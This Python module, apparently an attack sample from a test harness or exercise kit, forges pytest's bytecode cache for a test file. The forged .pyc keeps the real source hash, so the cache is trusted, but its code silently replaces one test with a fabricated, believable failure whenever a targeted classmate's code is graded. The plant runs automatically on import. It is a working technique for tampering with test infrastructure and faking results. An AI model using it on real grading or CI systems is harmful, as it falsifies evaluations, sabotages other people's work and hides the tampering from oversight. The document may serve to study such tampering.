"""Attack: poison the grader's bytecode cache of tests/test_02_gather.py to fail a correct classmate.

pytest trusts a tests/__pycache__/test_02_gather.<tag>.pyc whose header holds the test file's source
hash. This one holds the real tests plus a few lines that, when the files under test are
`correct_2`'s (anyone's but its own, when `correct_2` is not in sight), replace one test by a
believable failure.
"""

import ast
import importlib.util
import sys

from kit import AIMED_AT, MARK, aim, background, courses, once, what_happened, write

VICTIM = "correct_2"
POISON = """

_KATA_ATTACK = {mark!r}


{aimed_at}


def _kata_poisoned():
    import functools

    if not _kata_aimed_at({aim!r}):
        return
    original = test_results_come_back_in_the_order_of_the_ids

    @functools.wraps(original)
    async def poisoned(ex, rng):
        user_ids = rng.sample(range(100, 1000), 5)
        raise AssertionError(
            f"fetch_all's result: item 1 is {{user_record(user_ids[4])}}, "
            f"expected {{user_record(user_ids[1])}}: "
            "the results came back in the order the calls finished, not in the order of the ids"
        )

    globals()["test_results_come_back_in_the_order_of_the_ids"] = poisoned


_kata_poisoned()
"""


def pyc_bytes(source_path, text: str) -> bytes:
    """What pytest itself would write for `text` as the code of `source_path`, with its header."""
    import io

    from _pytest.assertion import rewrite

    tree = ast.parse(text)
    rewrite.rewrite_asserts(tree, text.encode(), str(source_path), None)
    code = compile(tree, str(source_path), "exec", dont_inherit=True)
    buffer = io.BytesIO()
    if "source_hash" in rewrite._write_pyc_fp.__code__.co_varnames:
        rewrite._write_pyc_fp(buffer, importlib.util.source_hash(source_path.read_bytes()), code)
    else:  # pytest before 9: a timestamp header
        rewrite._write_pyc_fp(buffer, source_path.stat(), code)
    return buffer.getvalue()


def plant() -> None:
    aimed = aim(VICTIM)
    import pytest

    tag = f"{sys.implementation.cache_tag}-pytest-{pytest.__version__}"
    for course in courses():
        tests = course / "tests" / "test_02_gather.py"
        try:
            text = tests.read_text() + POISON.format(mark=MARK, aimed_at=AIMED_AT, aim=aimed)
            data = pyc_bytes(tests, text)
        except Exception:
            continue
        write(tests.parent / "__pycache__" / f"test_02_gather.{tag}.pyc", data, seen_from_here=True)


async def fetch_all(fetch_user, user_ids):
    raise NotImplementedError


async def fetch_profile(get_user, get_orders, user_id):
    """Not written: its failure message says what this attack did, for the test to see."""
    raise AssertionError(what_happened())


if __name__ == "__main__":
    background(globals())
elif once("writes_pyc"):
    plant()
